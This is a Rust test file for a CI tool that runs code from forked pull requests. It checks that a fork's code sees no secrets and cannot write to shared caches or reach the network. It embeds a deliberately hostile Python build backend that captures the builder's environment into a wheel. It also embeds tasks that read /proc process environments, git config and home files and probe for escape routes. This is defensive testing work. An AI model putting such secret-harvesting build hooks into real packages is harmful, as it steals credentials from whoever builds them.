//! Code of a fork in real containers, doing its worst: in the builder of its environment and in its run.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};

use serde_json::Value;

use crate::payloads::pull;
use crate::runner::{Done, Job};
use crate::scene::{ENVIRONMENT, FORK, REPO, Scene, TOKEN, machine_with};

/// Everything that a job of the base repository may hold, by the variable that has it.
const HELD: [(&str, &str); 7] = [
    ("DB_PASSWORD", "correct-horse-battery"),
    ("STOLEN", "staple-of-the-machine"),
    ("MACHINE_SECRET", "secret-of-config-yaml"),
    ("SOOPERVISOR_BOX_JWT_CONFIG", "{\"key\": \"key-of-the-box\"}"),
    ("AWS_SECRET_ACCESS_KEY", "key-of-the-cloud"),
    ("ACTIONS_RUNTIME_TOKEN", "token-of-the-runner"),
    ("PIP_EXTRA_INDEX_URL", ""),
];
/// What would be seen of them, with the job's token and the index's password.
const WORDS: [&str; 8] = [
    "correct-horse",
    "staple-of",
    "secret-of-config",
    "key-of-the-box",
    "key-of-the-cloud",
    "token-of-the-runner",
    "password-of-the-index",
    TOKEN,
];

/// A build backend that needs nothing and packs what it sees of its builder.
const BACKEND: &str = r"
import json, os, zipfile

def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = 'evil-1.0-py3-none-any.whl'
    info = 'evil-1.0.dist-info/'
    with zipfile.ZipFile(os.path.join(folder, name), 'w') as wheel:
        wheel.writestr('evil.py', 'SEEN = ' + repr(json.dumps(dict(os.environ))) + '\n')
        wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n')
        wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        wheel.writestr(info + 'RECORD', '')
    return name
";

/// Tasks that write down all that they can get at, and try to reach and to change what is not theirs.
const TASKS: &str = r"
import glob, json, os, socket, sys
from pathlib import Path

def may(act):
    try:
        act()
        return True
    except OSError:
        return False

def read(path):
    try:
        return Path(path).read_bytes().decode('utf-8', 'replace')
    except OSError:
        return ''

def first(product, sample):
    import evil
    mounts = [line.split()[1] for line in read('/proc/mounts').splitlines()]
    seen = {
        'sample': sample,
        'settings': os.environ.get('WHOSE_SETTINGS'),
        'builder': evil.SEEN,
        'run': dict(os.environ),
        'processes': [read(path) for path in glob.glob('/proc/[0-9]*/environ')],
        'git': read('/workspace/.git/config'),
        'home': [str(path) for path in Path.home().rglob('*')][:50],
        'socket': os.path.exists('/var/run/docker.sock'),
        'interfaces': sorted(os.listdir('/sys/class/net')),
        'reached': may(lambda: socket.create_connection(('GATEWAY', PORT), 2).close()),
        'prefix': may(lambda: (Path(sys.prefix) / 'evil').write_text('x')),
        'packages': may(lambda: Path(json.__file__).write_text('x')),
        'caches': [path for path in mounts if path.startswith('/opt/sv') and may(lambda: (Path(path) / 'evil').write_text('x'))],
    }
    Path(product).write_text(json.dumps(seen))

def second(product, upstream):
    Path(product).write_text(str(upstream['first']))
";

/// A web server that containers reach: the fork's package, and an index that wants a password. Ends with the test.
struct Shop {
    gateway: String,
    port: u16,
    /// Request lines with the headers that came along.
    asked: Arc<Mutex<Vec<String>>>,
}

impl Shop {
    fn open() -> Self {
        let gateway = crate::bridge::address();
        let listener = TcpListener::bind((gateway.as_str(), 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let (noted, package) = (Arc::default(), package());
        let asked: Arc<Mutex<Vec<String>>> = Arc::clone(&noted);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let mut head = Vec::new();
                let mut byte = [0; 1];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let body: &[u8] = if head.contains("evil-1.0.tar.gz") { &package } else { b"" };
                let status = if body.is_empty() { "404 Not Found" } else { "200 OK" };
                noted.lock().unwrap().push(head);
                let answer =
                    format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                // Who asked may be gone.
                let _ = stream.write_all(answer.as_bytes()).and_then(|()| stream.write_all(body));
            }
        });
        Self { gateway, port, asked }
    }

    fn address(&self, user: &str, path: &str) -> String {
        format!("http://{user}{}:{}/{path}", self.gateway, self.port)
    }
}

/// `evil-1.0.tar.gz`.
fn package() -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("evil-1.0");
    std::fs::create_dir(&root).unwrap();
    let project = "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n[project]\nname = \"evil\"\nversion = \"1.0\"\n";
    for (name, text) in [
        ("pyproject.toml", project),
        ("backend.py", BACKEND),
        ("PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"),
    ] {
        std::fs::write(root.join(name), text).unwrap();
    }
    let packed = Command::new("tar").args(["-czf", "-", "evil-1.0"]).current_dir(dir.path()).output().unwrap();
    assert!(packed.status.success());
    packed.stdout
}

fn of_a_fork(shop: &Shop) -> impl Future<Output = Scene> {
    let tasks = TASKS.replace("GATEWAY", &shop.gateway).replace("PORT", &shop.port.to_string());
    let small = ENVIRONMENT.replace("      - sqlalchemy\n      - pandas\n", "");
    let environment = format!("{small}      - evil @ {}\n", shop.address("", "evil-1.0.tar.gz"));
    async move {
        let files = [("tasks.py", tasks), ("environment.yml", environment)];
        Scene::open_with(FORK, &files.each_ref().map(|(name, text)| (*name, text.as_str()))).await
    }
}

/// A job with everything to steal, and with caches of its own machine.
fn job(scene: &Scene, shop: &Shop, machine: &Path) -> Job {
    machine_with(&machine.join("config"), "secrets: [MACHINE_SECRET]\n");
    let mut job = scene.job().input("secrets", "DB_PASSWORD").input("fork-builds", "true");
    for (name, value) in HELD {
        job = job.env(name, value);
    }
    for (name, folder) in [("XDG_CONFIG_HOME", "config"), ("XDG_CACHE_HOME", "cache"), ("RUNNER_TEMP", "temp")] {
        let folder = machine.join(folder);
        std::fs::create_dir_all(&folder).unwrap();
        job = job.env(name, folder.to_str().unwrap());
    }
    job.env("PIP_EXTRA_INDEX_URL", &shop.address("me:password-of-the-index@", "simple"))
}

/// Every file below a folder.
fn files(folder: &Path) -> Vec<String> {
    let found = Command::new("find").arg(folder).args(["-type", "f"]).output().unwrap();
    String::from_utf8(found.stdout).unwrap().lines().map(str::to_owned).collect()
}

fn holds_none(what: &str, text: &str) {
    for word in WORDS {
        assert!(!text.contains(word), "{word} is in {what}");
    }
}

/// What the fork's first task saw, once it is certain that it saw nothing of value.
fn saw(done: &Done) -> Value {
    let folder = Path::new(&done.outputs["artifact-url"]);
    let text = std::fs::read_to_string(folder.join("output/first.txt")).unwrap();
    holds_none("what the fork's code saw", &text);
    for entry in files(folder) {
        holds_none(&entry, &String::from_utf8_lossy(&std::fs::read(&entry).unwrap()));
    }
    let seen: Value = serde_json::from_str(&text).unwrap();
    let builder: Value = serde_json::from_str(seen["builder"].as_str().unwrap()).unwrap();
    assert!(builder["PATH"].is_string() && seen["run"]["PATH"].is_string(), "its code did run in both: {seen}");
    assert!(seen["processes"].as_array().unwrap().iter().any(|process| process != ""), "{seen}");
    assert_eq!(seen["settings"], "of the base branch");
    for way_out in ["socket", "reached", "prefix", "packages"] {
        assert_eq!(seen[way_out], false, "{way_out}: {seen}");
    }
    assert_eq!(seen["interfaces"], serde_json::json!(["lo"]));
    assert_eq!(seen["caches"], serde_json::json!([]));
    seen
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forks_code_sees_no_secret_in_its_builder_nor_its_run_and_leaves_nothing_for_others() {
    let shop = Shop::open();
    let scene = of_a_fork(&shop).await;
    let machine = tempfile::tempdir().unwrap();
    // A maintainer asks for all of it, in a workflow that has secrets.
    let text = format!("/soopervisor run {}", scene.head);
    let id = scene.comment("ann", &text);
    let event = scene.commented(id, "ann", &text);
    let done = job(&scene, &shop, machine.path()).event("issue_comment", &event).run().await;
    assert_eq!((done.code, done.outputs["mode"].as_str()), (0, "full"), "{}", done.log.text());
    assert!(done.outputs["artifact-url"].ends_with(&format!("churn-forks/{}", scene.head)), "{:?}", done.outputs);
    assert_eq!(saw(&done)["sample"], false);
    holds_none("the log", &done.log.text());
    holds_none("the summary", &done.summary);
    let ours = scene.ours().concat().join("\n");
    holds_none("the comment", &ours);
    assert!(ours.contains("The code is a fork's") && ours.contains("succeeded"), "{ours}");
    assert_eq!(scene.statuses().last().unwrap().0, scene.head);
    // The pull request itself, by a workflow that someone gave secrets: a sample, and all else as before.
    let event = pull(REPO, FORK, 7, "synchronize", &scene.head, &scene.base);
    let done = job(&scene, &shop, machine.path()).event("pull_request", &event).run().await;
    assert_eq!((done.code, done.outputs["mode"].as_str()), (0, "sample"), "{}", done.log.text());
    assert!(done.outputs["artifact-url"].ends_with(&format!("churn-forks/{}-sample", scene.head)));
    assert_eq!(saw(&done)["sample"], true);
    // The machine's caches are as they were: empty. Nothing is where the fork's own settings wanted it.
    assert_eq!(files(&machine.path().join("cache")), [""; 0]);
    let projects: Vec<_> = std::fs::read_dir(scene.artifacts()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(projects, ["churn-forks"]);
    assert!(!Path::new("/tmp/elsewhere").exists());
    // The index with the password was never asked, by name or with it; the package was.
    let asked = shop.asked.lock().unwrap();
    assert!(asked.iter().all(|head| head.contains("/evil-1.0.tar.gz") && !head.contains("uthorization")), "{asked:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_code_of_a_fork_runs_while_its_environment_is_built_and_it_chooses_no_channel_of_this_network() {
    let shop = Shop::open();
    let built = of_a_fork(&shop).await;
    let channel = format!("channels: [conda-forge, \"http://{}:{}/channel\"]", shop.gateway, shop.port);
    let environment = ENVIRONMENT.replace("channels:\n  - conda-forge", &channel);
    let near = Scene::open_with(FORK, &[("environment.yml", &environment)]).await;
    for (scene, words) in [(&built, "from wheels only"), (&near, "is on this machine or in its network")] {
        let machine = tempfile::tempdir().unwrap();
        let event = pull(REPO, FORK, 7, "opened", &scene.head, &scene.base);
        let job = job(scene, &shop, machine.path()).input("fork-builds", "false").event("pull_request", &event);
        let done = job.run().await;
        assert_eq!((done.code, done.outputs["status"].as_str()), (3, "failed"), "{words}: {}", done.log.text());
        assert!(done.log.text().contains(words), "{words}: {}", done.log.text());
        assert!(!scene.artifacts().exists(), "nothing is published");
    }
    assert_eq!(*shop.asked.lock().unwrap(), [""; 0], "nothing of it was even fetched");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_maintainer_asks_for_of_a_fork_is_compared_with_the_projects_own_outputs_and_a_forks_own_job_is_not() {
    let scene = Scene::open_with(FORK, &[("tasks.py", &crate::scene::TASKS.replace("two", "deux"))]).await;
    let main = crate::payloads::sample("workflow_dispatch");
    let done = scene.job().event("workflow_dispatch", &main).run().await;
    assert!(done.outputs["artifact-url"].ends_with(&format!("of-the-base-branch/{}", scene.base)), "{:?}", done.log);
    let machine = tempfile::tempdir().unwrap();
    let temp = machine.path().to_str().unwrap();
    let job = || scene.job().input("fork-builds", "true").env("RUNNER_TEMP", temp);
    let id = scene.comment("ann", "/soopervisor run");
    let event = scene.commented(id, "ann", "/soopervisor run");
    let served = "https://files.example.org";
    let done = job().input("preview-url", served).event("issue_comment", &event).run().await;
    assert_eq!(done.code, 0, "{}", done.log.text());
    assert!(done.outputs["artifact-url"].ends_with(&format!("churn-forks/{}", scene.head)), "{:?}", done.outputs);
    let told = scene.ours()[0].last().unwrap().clone();
    assert!(told.contains(&format!("compared with `{}`", &scene.base[..10])), "{told}");
    assert!(told.contains("| changed | `output/second.txt`") && !told.contains("| added |"), "{told}");
    let event = pull(REPO, FORK, 7, "synchronize", &scene.head, &scene.base);
    let done = job().event("pull_request", &event).run().await;
    assert_eq!(done.code, 0, "{}", done.log.text());
    assert!(done.summary.contains("not compared: a fork's own job reaches nothing"), "{}", done.summary);
}
